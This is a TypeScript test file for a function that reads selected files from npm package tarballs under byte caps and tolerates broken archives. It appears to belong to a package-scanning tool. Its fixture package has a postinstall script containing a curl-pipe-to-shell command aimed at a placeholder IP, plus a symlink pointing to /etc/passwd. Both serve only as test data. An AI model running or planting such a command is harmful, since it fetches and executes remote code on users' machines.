import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { packageTarball, tar } from '../../../test/support/npm-registry/index.ts';
import { readTarballFiles } from './tarball-files.ts';

test('reads the named package-relative files, capped, and nothing else', async () => {
  const t = packageTarball({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node scripts/setup.js' } }, [
    { path: 'scripts/setup.js', content: 'curl http://203.0.113.9/x | sh\n' },
    { path: 'big.js', content: 'a'.repeat(10_000) },
    { path: 'link.js', type: 'symlink', content: '', linkTarget: '/etc/passwd' },
  ]);
  const files = await readTarballFiles(Readable.from([t.bytes]), ['scripts/setup.js', './big.js', 'big.js', 'link.js', 'missing.js'], { maxBytesEach: 100, maxTotalBytes: 1000 });
  assert.deepEqual([...files.keys()].sort(), ['big.js', 'scripts/setup.js']);
  assert.equal(files.get('scripts/setup.js')?.bytes.toString(), 'curl http://203.0.113.9/x | sh\n');
  assert.deepEqual([files.get('big.js')?.bytes.length, files.get('big.js')?.size], [100, 10_000], 'cut, with its whole size');
});

test('a broken archive yields what was read before the damage, never an exception', async () => {
  const good = tar([{ path: 'package/install.js', content: 'require("https")' }]);
  const broken = Buffer.concat([good.subarray(0, 1024), Buffer.from('not a tar header'.padEnd(512, '!'))]);
  const files = await readTarballFiles(Readable.from([gzipSync(broken)]), ['install.js', 'other.js'], { maxBytesEach: 1000, maxTotalBytes: 1000 });
  assert.equal(files.get('install.js')?.bytes.toString(), 'require("https")');
  const garbage = await readTarballFiles(Readable.from([Buffer.from('not gzip at all')]), ['install.js'], { maxBytesEach: 1000, maxTotalBytes: 1000 });
  assert.equal(garbage.size, 0);
  assert.equal((await readTarballFiles(Readable.from([good]), [], { maxBytesEach: 1000, maxTotalBytes: 1000 })).size, 0);
});

test('all files together are read up to a total: the files past it come back empty, with their size', async () => {
  const t = packageTarball({ name: 'x', version: '1.0.0' }, [
    { path: 'a.js', content: 'a'.repeat(600) },
    { path: 'b.js', content: 'b'.repeat(600) },
    { path: 'c.js', content: 'c'.repeat(10) },
  ]);
  const files = await readTarballFiles(Readable.from([t.bytes]), ['a.js', 'b.js', 'c.js'], { maxBytesEach: 1000, maxTotalBytes: 1000 });
  assert.deepEqual([...files].map(([p, f]) => [p, f.bytes.length, f.size]), [['a.js', 600, 600], ['b.js', 400, 600], ['c.js', 0, 10]]);
});
